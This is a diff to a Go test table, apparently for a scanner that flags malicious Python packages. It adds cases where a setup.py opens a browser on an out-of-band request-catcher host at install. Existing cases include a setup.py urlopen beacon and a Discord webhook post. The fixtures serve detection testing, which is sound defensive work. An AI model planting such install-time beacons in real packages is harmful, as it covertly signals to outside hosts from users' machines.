@@ -96,6 +96,8 @@ var ruleCases = []ruleCase{
 	{"upload method of an SDK is runtime", map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://example.invalid/u', data=open(path, 'rb').read())\n"}, "exfiltrates-files", Clean},
 	// exfil-channel
 	{"request catcher with network", map[string]string{"setup.py": "import urllib.request\nurllib.request.urlopen('https://abc123.oastify.com/x')\n"}, "exfil-channel", Malicious},
+	{"browser opened on a request catcher at install", map[string]string{"setup.py": "import uuid, webbrowser\nfrom setuptools import setup\nwebbrowser.open_new_tab('https://q7x2.oast.cz/?id=' + str(uuid.uuid4()))\nsetup(name='p')\n"}, "exfil-channel", Malicious},
+	{"browser opened on the docs by a command is fine", map[string]string{"p/cli.py": "import webbrowser\ndef docs():\n    webbrowser.open_new_tab('https://docs.example.org/p/?ref=cli')\n"}, "", Clean},
 	{"webhook named in a docstring is fine", map[string]string{"p/notify.py": "import requests\ndef notify(url, msg):\n    '''url like https://hooks.slack.com/services/...'''\n    return requests.post(url, json={'text': msg})\n"}, "", Clean},
 	{"webhook posted to from a runtime helper", map[string]string{"p/notify.py": "import requests\nURL = 'https://discord.com/api/webhooks/1/abc'\ndef notify(msg):\n    return requests.post(URL, json={'content': msg})\n"}, "exfil-channel", Suspicious},
 	// credential-access
